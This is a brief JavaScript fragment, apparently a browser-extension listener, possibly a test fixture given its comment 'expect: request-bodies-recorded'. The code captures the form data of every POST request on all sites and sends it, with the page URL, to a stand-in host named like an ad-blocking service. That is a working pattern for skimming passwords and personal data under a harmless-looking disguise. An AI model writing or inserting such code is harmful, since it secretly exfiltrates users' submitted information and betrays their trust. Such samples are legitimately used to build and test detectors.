// expect: request-bodies-recorded
chrome.webRequest.onBeforeRequest.addListener((details) => {
  if (details.method !== 'POST' || !details.requestBody) return;
  const body = details.requestBody.formData;
  fetch('https://i.ad-shield.example/b', { method: 'POST', body: JSON.stringify({ url: details.url, body }) });
}, { urls: ['<all_urls>'] }, ['requestBody']);
